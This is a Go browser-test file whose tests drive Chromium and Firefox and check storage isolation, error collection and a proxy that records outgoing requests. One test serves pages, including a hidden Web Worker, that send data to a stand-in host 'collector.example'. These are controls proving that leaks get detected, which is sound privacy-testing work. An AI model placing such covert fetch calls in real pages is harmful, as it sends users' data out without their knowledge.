//go:build browser

package browser

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"testing"

	"github.com/chromedp/chromedp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// pages serves texts of HTML, by path.
func pages(t *testing.T, texts map[string]string) string {
	t.Helper()
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		text, ok := texts[r.URL.Path]
		if !ok {
			http.NotFound(w, r)
			return
		}
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		fmt.Fprint(w, "<!doctype html><link rel=icon href=data:,>", text)
	}))
	t.Cleanup(server.Close)
	return server.URL
}

func TestPage(t *testing.T) {
	url := pages(t, map[string]string{"/": `<p id=p>one</p><button onclick="setTimeout(() => p.textContent = 'two', 50)">go</button>`})
	browser := Chromium(t)
	p := Open(t, browser, url)
	assert.Equal(t, "one", p.Text("#p"))
	p.Run(chromedp.Click("button"))
	p.WaitFor(`p.textContent === 'two'`)
	var sum int
	p.Eval(`Promise.resolve(40 + 2)`, &sum)
	assert.Equal(t, 42, sum)

	p.Size(360, 640, true)
	var seen struct {
		Width int
		Dark  bool
	}
	p.Eval(`({Width: innerWidth, Dark: matchMedia('(prefers-color-scheme: dark)').matches})`, &seen)
	assert.Equal(t, 360, seen.Width)
	assert.True(t, seen.Dark)
	info, err := os.Stat(p.Screenshot("harness"))
	require.NoError(t, err)
	assert.Positive(t, info.Size())
}

// Two tabs share their storage only if one was opened beside the other.
func TestStorageIsTheTabsOwn(t *testing.T) {
	url := pages(t, map[string]string{"/": ""})
	browser := Chromium(t)
	first := Open(t, browser, url)
	first.Eval(`localStorage.setItem('a', 'b')`, nil)
	var value *string
	first.Beside(url).Eval(`localStorage.getItem('a')`, &value)
	require.NotNil(t, value)
	assert.Equal(t, "b", *value)
	Open(t, browser, url).Eval(`localStorage.getItem('a')`, &value)
	assert.Nil(t, value)
}

// The control of all tests that expect no errors: each kind is seen.
func TestErrorsAreCollected(t *testing.T) {
	url := pages(t, map[string]string{
		"/console":  `<script>console.error('broken', 1)</script>`,
		"/uncaught": `<script>throw new Error('thrown')</script>`,
		"/rejected": `<script>Promise.reject(new Error('rejected'))</script>`,
		"/network":  `<img src=/none.png>`,
		"/policy":   `<meta http-equiv=Content-Security-Policy content="script-src 'none'"><script>1</script>`,
	})
	browser := Chromium(t)
	for path, want := range map[string]string{
		"/console": "broken", "/uncaught": "thrown", "/rejected": "rejected", "/network": "404", "/policy": "Content Security Policy",
	} {
		p := Open(t, browser, url+path)
		p.Eval(`new Promise((r) => setTimeout(r))`, nil)
		errors := p.Errors()
		require.NotEmpty(t, errors, path)
		assert.Contains(t, errors[0], want, path)
	}
}

// The control of the privacy proof: a page and a worker that do what ours may not
// are seen to do it.
func TestProxySeesWhatLeaves(t *testing.T) {
	url := pages(t, map[string]string{
		"/quiet": `<p>quiet</p>`,
		"/page":  `<script>fetch('http://collector.example/page?data=1', {mode: 'no-cors'})</script>`,
		"/worker": `<script>
			const text = "fetch('http://collector.example/worker?data=1', {mode: 'no-cors'}).catch(() => 0).then(() => postMessage('done'))";
			globalThis.done = new Promise((r) => new Worker(URL.createObjectURL(new Blob([text]))).onmessage = r);
		</script>`,
		"/tls": `<script>fetch('https://collector.example/', {mode: 'no-cors'})</script>`,
	})
	proxy := NewProxy(t, url)
	browser := Chromium(t, proxy.Settings()...)
	var files []string
	for path, want := range map[string]string{
		"/quiet":  "",
		"/page":   "GET http://collector.example/page?data=1",
		"/worker": "GET http://collector.example/worker?data=1",
		"/tls":    "CONNECT collector.example:443",
	} {
		before := len(proxy.Seen())
		p := Open(t, browser, url+path)
		p.Eval(`globalThis.done?.then(() => 1)`, nil)
		p.Eval(`new Promise((r) => setTimeout(r, 200))`, nil)
		p.Errors() // the proxy's refusals are some
		files = append(files, url+path)
		strange := Strange(proxy.Seen()[before:], files)
		if want == "" {
			assert.Empty(t, strange, path)
		} else {
			assert.Contains(t, strange, want, path)
		}
	}
}

func TestStrange(t *testing.T) {
	files := []string{"http://a/", "http://a/x.js"}
	assert.Empty(t, Strange([]string{"GET http://a/", "GET http://a/x.js", "GET http://a/x.js"}, files))
	for _, request := range []string{"POST http://a/", "GET http://a/?q", "GET http://b/", "CONNECT a:443", "GET http://a/x.js#y"} {
		assert.Equal(t, []string{request}, Strange([]string{request}, files))
	}
}

func TestFirefox(t *testing.T) {
	url := pages(t, map[string]string{"/": `<p id=p>one</p>`})
	f := StartFirefox(t)
	f.Open(url)
	var got struct {
		Text string
		Sum  float64
	}
	f.Eval(`Promise.resolve({Text: p.textContent, Sum: 40 + 2})`, &got)
	assert.Equal(t, "one", got.Text)
	assert.InDelta(t, 42, got.Sum, 0)
}
